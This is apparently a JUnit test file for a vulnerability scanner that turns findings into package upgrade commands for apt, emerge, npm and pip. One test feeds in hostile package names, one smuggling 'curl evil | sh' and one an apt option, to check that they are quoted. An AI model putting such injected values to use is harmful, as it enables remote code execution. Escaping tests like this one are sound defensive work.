package org.tidewaiter.scan.fix;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.tidewaiter.model.Finding;
import org.tidewaiter.model.SoftwarePackage;
import org.tidewaiter.scan.report.FixStep;
import org.tidewaiter.scan.report.MadeUp;
import org.tidewaiter.scan.report.StatedFixes;

class FixPlanTest {
    @Test
    void thePackagesOfTheDistributionAreOneCommand() {
        var steps =
                plan(
                        fixed("CVE-1", MadeUp.deb("openssl", "libssl3", "3.0.1"), "3.0.3"),
                        fixed("CVE-1", MadeUp.deb("openssl", "openssl", "3.0.1"), "3.0.3"),
                        fixed("CVE-2", MadeUp.deb("curl", "curl", "7.1"), "7.2"));
        assertThat(steps)
                .extracting(FixStep::command)
                .containsExactly(
                        "apt-get update && apt-get install --only-upgrade curl libssl3 openssl");
        assertThat(steps.getFirst().mended()).isEqualTo(3);
    }

    @Test
    void theCommandForPackagesOfPortageNamesThemAll() {
        var packages =
                List.of(
                        new FixCommands.Target(ebuild("net-misc", "curl", "7.1"), "7.2"),
                        new FixCommands.Target(ebuild("dev-libs", "openssl", "3.0.1"), "3.0.3"));
        assertThat(new FixCommands(true).line(packages))
                .isEqualTo(
                        "emerge --sync && emerge --oneshot --update dev-libs/openssl net-misc/curl");
    }

    @Test
    void theUpgradeIsTheLowestThatMendsAll() {
        var minimist = MadeUp.npm("minimist", "1.2.5", "a");
        var steps =
                plan(
                        fixed("CVE-1", minimist, "0.2.4", "1.2.9", "2.0.0"),
                        fixed("CVE-2", minimist, "1.2.10", "3.0.0"));
        assertThat(steps)
                .extracting(FixStep::command)
                .containsExactly("npm install minimist@1.2.10");
        assertThat(steps.getFirst().upgrades().getFirst().ids()).containsExactly("CVE-1", "CVE-2");
    }

    @Test
    void theStepThatMendsMostComesFirst() {
        var steps =
                plan(
                        fixed("CVE-1", MadeUp.npm("a", "1.0.0", "a"), "1.0.1"),
                        fixed("CVE-2", MadeUp.pypi("b", "1.0", "b"), "1.1"),
                        fixed("CVE-3", MadeUp.pypi("b", "1.0", "b"), "1.1"));
        assertThat(steps)
                .extracting(FixStep::command)
                .containsExactly("pip install 'b>=1.1'", "npm install a@1.0.1");
    }

    @Test
    void whatHasNoFixHasNoStep() {
        assertThat(plan(MadeUp.flaw("CVE-1", MadeUp.npm("a", "1.0.0", "a")).build())).isEmpty();
    }

    @Test
    void aHostileNameCannotLeaveItsWord() {
        assertThat(plan(fixed("CVE-1", MadeUp.npm("a'; curl evil | sh #", "1.0.0", "a"), "1.0.1")))
                .extracting(FixStep::command)
                .containsExactly("npm install 'a'\\''; curl evil | sh #@1.0.1'");
        assertThat(plan(fixed("CVE-1", MadeUp.deb("a", "-o=Evil::X=1", "1"), "2")))
                .extracting(FixStep::command)
                .containsExactly(
                        "apt-get update && apt-get install --only-upgrade -- -o=evil::x=1");
    }

    private static Finding.Vulnerability fixed(String id, SoftwarePackage in, String... versions) {
        return MadeUp.flaw(id, in).fix(versions).build();
    }

    private static SoftwarePackage ebuild(String category, String name, String version) {
        return MadeUp.language("ebuild", category, name, version, "var/db/pkg/" + name);
    }

    private static List<FixStep> plan(Finding.Vulnerability... findings) {
        return StatedFixes.steps(List.of(findings));
    }
}
